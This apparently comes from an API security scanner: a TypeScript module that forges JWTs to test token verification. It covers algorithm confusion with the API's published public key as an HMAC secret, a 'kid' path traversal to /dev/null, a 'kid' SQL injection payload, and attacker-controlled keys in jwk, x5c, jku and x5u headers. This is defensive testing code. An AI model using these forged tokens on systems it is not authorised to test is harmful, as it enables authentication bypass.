// JWT header attacks, as tokens for the JWT check to send: algorithm confusion (the API's own public
// key, from its key set, its well-known addresses or any answer carrying a PEM, used as an HMAC
// secret), `kid` injection (a path to a known empty file, SQL that selects a key), and keys the scan
// controls, embedded (`jwk`, a self-signed certificate in `x5c`) or hosted on its own listener (a key
// set named by `jku`, the certificate named by `x5u`).

import crypto from 'node:crypto';
import type { Exchange } from '../../http/exchange';
import { describeEndpoint } from '../common/helpers';
import { isObj, type Json } from '../common/objects';
import type { CheckContext } from '../types';
import type { ForgeRecipe } from '../../jwt-forge';
import { scanCertificate } from './scan-certificate';

export interface HeaderVariant {
  id: string;
  name: string;
  token: string;
  what: string;
  notes?: string[];
  /** How the curl command builds the token again from key 1 (none for jku and x5u: their key set and certificate lived on the scan's listener). */
  forge?: Omit<ForgeRecipe, 'from'>;
}

interface Jwt {
  header: Json;
  payload: Json;
}

const enc = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
const hs256 = (secret: crypto.BinaryLike, input: string) => crypto.createHmac('sha256', secret).update(input).digest('base64url');

/** Where APIs publish the public keys their tokens are signed with (tried at the origin and the API's base path). */
export const KEY_PATHS = [
  '/.well-known/jwks.json',
  '/.well-known/openid-configuration',
  '/.well-known/jwks',
  '/jwks.json',
  '/jwks',
  '/oauth/jwks',
  '/keys',
  '/certs',
  '/public.pem',
  '/publickey.pem',
  '/public.key',
  '/jwt.pub',
];
const PEM = /-----BEGIN (RSA |EC )?PUBLIC KEY-----[A-Za-z0-9+/=\s\\n]+?-----END (RSA |EC )?PUBLIC KEY-----\n?/g;
/** At most this many secrets per public key (its text as published, SPKI and PKCS#1, with and without the final newline). */
const FORMS = 4;

export interface PublicKey {
  key: crypto.KeyObject;
  /** The key's text exactly as the API served it, when it served a PEM. */
  text: string | null;
  /** Where it was found ("GET /.well-known/jwks.json"). */
  where: string;
}

function fromPem(text: string, where: string): PublicKey | null {
  const clean = text.replace(/\\n/g, '\n');
  try {
    return { key: crypto.createPublicKey(clean), text: clean, where };
  } catch {
    return null;
  }
}

function fromJwks(value: unknown, where: string): PublicKey[] {
  const keys = isObj(value) && Array.isArray(value.keys) ? value.keys : [];
  const out: PublicKey[] = [];
  for (const k of keys.slice(0, 5)) {
    if (!isObj(k) || (k.kty !== 'RSA' && k.kty !== 'EC')) continue;
    try {
      const { d: _private, ...pub } = k as Record<string, unknown>;
      out.push({ key: crypto.createPublicKey({ key: pub as crypto.JsonWebKey, format: 'jwk' }), text: null, where });
    } catch {
      // not a usable key
    }
  }
  return out;
}

/** Public keys in one answer: PEM blocks anywhere in it, or a JWKS. */
export function keysIn(ex: Exchange, where: string): PublicKey[] {
  const out: PublicKey[] = [];
  for (const m of ex.body.slice(0, 200_000).match(PEM) ?? []) {
    const k = fromPem(m, where);
    if (k) out.push(k);
  }
  const json = ex.json();
  if (json !== undefined) out.push(...fromJwks(json, where));
  return out;
}

/**
 * The API's public keys: first in the answers the scan already has (key 1's baselines of GET
 * operations), then at the well-known addresses (an OpenID configuration's `jwks_uri` followed).
 * Stops at the first address that gives a key.
 */
export async function findPublicKeys(ctx: CheckContext): Promise<PublicKey[]> {
  const found: PublicKey[] = [];
  for (const e of ctx.allEndpoints.filter((x) => x.method === 'GET' && !x.graphql).slice(0, 40)) {
    const ex = await ctx.baseline('key1', e);
    if (ex?.ok) found.push(...keysIn(ex, `the answer of ${describeEndpoint(e)}`));
    if (found.length) return found;
  }
  const base = ctx.url('/');
  const roots = [...new Set([base.origin, `${base.origin}${base.pathname.replace(/\/+$/, '')}`])];
  for (const root of roots) {
    for (const path of KEY_PATHS) {
      if (ctx.budgetLeft() <= FORMS + 4) return found;
      const url = `${root}${path}`;
      if (ctx.skips('GET', url)) continue;
      const ex = await ctx.send({ method: 'GET', url, auth: { kind: 'none' }, followRedirects: false });
      if (!ex.ok) continue;
      const json = ex.json();
      const jwksUri = isObj(json) && typeof json.jwks_uri === 'string' ? json.jwks_uri : null;
      if (jwksUri && ctx.budgetLeft() > FORMS + 4) {
        try {
          const target = new URL(jwksUri, url);
          if (target.origin === base.origin && !ctx.skips('GET', target)) {
            const keys = await ctx.send({ method: 'GET', url: target, auth: { kind: 'none' }, followRedirects: false });
            if (keys.ok) found.push(...keysIn(keys, `GET ${target.pathname} (the jwks_uri of ${path})`));
          }
        } catch {
          // a jwks_uri that is not a URL
        }
      }
      found.push(...keysIn(ex, `GET ${new URL(url).pathname}`));
      if (found.length) return found;
    }
  }
  return found;
}

/** The texts a verifier may have been handed as the "secret": the key as published, SPKI and PKCS#1 PEM, each with and without its final newline. */
export function secretForms(k: PublicKey): string[] {
  const forms: string[] = [];
  if (k.text) forms.push(k.text);
  forms.push(k.key.export({ type: 'spki', format: 'pem' }).toString());
  if (k.key.asymmetricKeyType === 'rsa') forms.push(k.key.export({ type: 'pkcs1', format: 'pem' }).toString());
  const both = forms.flatMap((f) => [f, f.endsWith('\n') ? f.replace(/\n+$/, '') : `${f}\n`]);
  return [...new Set(both)].slice(0, FORMS);
}

/** The scan's own RSA key, for tokens that carry or point at their key: one per process. */
let own: { privateKey: crypto.KeyObject; publicKey: crypto.KeyObject; jwk: crypto.JsonWebKey } | null = null;
function ownKey() {
  if (!own) {
    const pair = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 });
    own = { ...pair, jwk: pair.publicKey.export({ format: 'jwk' }) };
  }
  return own;
}

const rs256 = (input: string) => crypto.sign('sha256', Buffer.from(input), ownKey().privateKey).toString('base64url');

function signed(header: Json, payload: Json, sign: (input: string) => string): string {
  const input = `${enc(header)}.${enc(payload)}`;
  return `${input}.${sign(input)}`;
}

const ASYMMETRIC = /^(RS|PS|ES)\d{3}$/i;
/** A path from any working directory to a file every Unix host has, and that is empty. */
const KID_EMPTY_FILE = '../../../../../../../../../../dev/null';

/** The header-attack tokens for a JWT of key 1 (its claims kept, with a fresh jti where it has one). */
export async function headerVariants(ctx: CheckContext, jwt: Jwt): Promise<HeaderVariant[]> {
  const { header, payload } = jwt;
  const claimChanges = typeof payload.jti === 'string' ? { jti: `portcullis-${ctx.random.alnum(10)}` } : {};
  const claims = { ...payload, ...claimChanges };
  const out: HeaderVariant[] = [];
  const alg = String(header.alg);
  const base = { ...header };
  delete base.jku;
  delete base.jwk;
  delete base.x5u;
  delete base.x5c;

  if (ASYMMETRIC.test(alg)) {
    const keys = await findPublicKeys(ctx);
    const key = keys[0];
    if (key) {
      for (const form of secretForms(key)) {
        out.push({
          id: 'key-confusion',
          name: `JWT key confusion accepted (${alg} public key used as the HS256 secret)`,
          token: signed({ ...base, alg: 'HS256' }, claims, (input) => hs256(form, input)),
          what: `re-signed with "alg": "HS256" and the API's own ${alg} public key (found at ${key.where}) as the HMAC secret (algorithm confusion)`,
          notes: [`The public key was found at ${key.where}; the HMAC secret was its PEM text (${form.length} characters${form.endsWith('\n') ? ', with its final newline' : ''}).`],
          forge: { header: { ...base, alg: 'HS256' }, claims: claimChanges, expiry: 'fresh', signing: { kind: 'hmac', alg: 'HS256', secret: form } },
        });
      }
    } else {
      ctx.note(`JWT tampering: key 1 is an ${alg} token and the API publishes no public key the scan could find (its answers, ${KEY_PATHS.slice(0, 3).join(', ')}...): algorithm confusion not tried.`);
    }
  }

  out.push({
    id: 'kid-path',
    name: 'JWT "kid" path injection accepted',
    token: signed({ ...base, alg: 'HS256', kid: KID_EMPTY_FILE }, claims, (input) => hs256(Buffer.alloc(0), input)),
    what: `with "kid": "${KID_EMPTY_FILE}" (an empty file) and re-signed with HS256 and an empty key`,
    forge: { header: { ...base, alg: 'HS256', kid: KID_EMPTY_FILE }, claims: claimChanges, expiry: 'fresh', signing: { kind: 'hmac', alg: 'HS256', secret: '' } },
  });
  const sqlKey = `pcs-${ctx.random.alnum(12)}`;
  out.push({
    id: 'kid-sql',
    name: 'JWT "kid" SQL injection accepted',
    token: signed({ ...base, alg: 'HS256', kid: `portcullis-none' UNION SELECT '${sqlKey}'-- ` }, claims, (input) => hs256(sqlKey, input)),
    what: 'with a "kid" whose SQL selects a key of the scan\'s choosing and re-signed with HS256 and that key',
    forge: { header: { ...base, alg: 'HS256', kid: `portcullis-none' UNION SELECT '${sqlKey}'-- ` }, claims: claimChanges, expiry: 'fresh', signing: { kind: 'hmac', alg: 'HS256', secret: sqlKey } },
  });
  out.push({
    id: 'jwk-embedded',
    name: 'JWT with its own embedded key ("jwk") accepted',
    token: signed({ ...base, alg: 'RS256', kid: 'portcullis', jwk: { ...ownKey().jwk, kid: 'portcullis' } }, claims, rs256),
    what: 'signed with a key of the scan\'s own (RS256) whose public half rides in the token\'s "jwk" header',
    forge: { header: { ...base, alg: 'RS256', kid: 'portcullis' }, claims: claimChanges, expiry: 'fresh', signing: { kind: 'embedded-jwk' } },
  });
  if (ctx.oob) {
    const token = ctx.oob.token();
    const kid = `portcullis-${token}`;
    const url = ctx.oob.publish(token, JSON.stringify({ keys: [{ ...ownKey().jwk, kid, use: 'sig', alg: 'RS256' }] }), 'application/json');
    out.push({
      id: 'jku',
      name: 'JWT whose "jku" points at a key set the scan controls accepted',
      token: signed({ ...base, alg: 'RS256', kid, jku: url }, claims, rs256),
      what: `signed with a key of the scan's own (RS256) and a "jku" header naming the scan's key set (${url})`,
    });
  }
  // The same key in a self-signed certificate: a verifier that takes the key from the token's
  // certificate without chaining it to an authority it trusts.
  const cert = await scanCertificate(ownKey());
  out.push({
    id: 'x5c-embedded',
    name: 'JWT with its own embedded certificate ("x5c") accepted',
    token: signed({ ...base, alg: 'RS256', kid: 'portcullis', x5c: [cert.x5c] }, claims, rs256),
    what: 'signed with a key of the scan\'s own (RS256) whose self-signed certificate rides in the token\'s "x5c" header',
    forge: { header: { ...base, alg: 'RS256', kid: 'portcullis' }, claims: claimChanges, expiry: 'fresh', signing: { kind: 'embedded-x5c' } },
  });
  if (ctx.oob) {
    const token = ctx.oob.token();
    const kid = `portcullis-${token}`;
    // RFC 7515 section 4.1.5: the resource an x5u names is the certificate in PEM form.
    const url = ctx.oob.publish(token, cert.pem, 'application/pem-certificate-chain');
    out.push({
      id: 'x5u',
      name: 'JWT whose "x5u" points at a certificate the scan controls accepted',
      token: signed({ ...base, alg: 'RS256', kid, x5u: url }, claims, rs256),
      what: `signed with a key of the scan's own (RS256) and an "x5u" header naming the scan's self-signed certificate (${url})`,
    });
  }
  return out;
}
